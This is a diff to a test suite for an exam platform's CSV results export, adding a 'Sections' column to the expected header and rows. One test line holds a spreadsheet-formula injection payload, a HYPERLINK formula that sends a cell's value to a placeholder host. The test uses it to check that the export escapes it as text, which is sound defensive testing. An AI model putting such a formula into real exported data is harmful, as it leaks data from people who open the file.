@@ -877,13 +877,13 @@ describe("tests and drives", async () => {
       expect(csv.headers["content-type"]).toContain("text/csv");
       expect(csv.body.split("\n")[0]).toBe(
         "Student,Email,USN,College,Drive,Test,Right answers,Marks,Questions,Score (%),Result,Submitted,Time zone," +
-          "Auto-submitted,Left the quiz (times),Late answers,Answers in a burst",
+          "Auto-submitted,Left the quiz (times),Late answers,Answers in a burst,Sections",
       );
       expect(csv.body).toContain("Asha Rao");
       // Submitted by the student in time; not timed per question: no late answers; two answers sent with the
       // submit are not a burst.
       expect(csv.body).toContain(",66.67,Pass,");
-      expect(csv.body).toMatch(/,No,3,,0\n/);
+      expect(csv.body).toMatch(/,No,3,,0,\n/);
       // A name that is a spreadsheet formula is written as text.
       expect(csv.body).toContain(`"'=HYPERLINK(""http://x.example/?leak=""&C2,""Click"")"`);
     });
@@ -932,7 +932,7 @@ describe("a large drive's results", async () => {
     const lines = csv.body.trimEnd().split("\n").slice(1);
     expect(lines).toHaveLength(attempts);
     expect(lines.map((line) => line.split(",")[2])).toEqual(expected.map((row) => row.usn_no));
-    expect(lines[0]).toMatch(/,25,24.75,25,99.00,,2026-11-20 15:30:\d\d,Asia\/Kolkata,No,0,0,0$/);
+    expect(lines[0]).toMatch(/,25,24.75,25,99.00,,2026-11-20 15:30:\d\d,Asia\/Kolkata,No,0,0,0,$/);
 
     // Without a limit the list answers the best LIST_CAP (1,000), never all 2,500: the CSV is for every attempt.
     const json = (
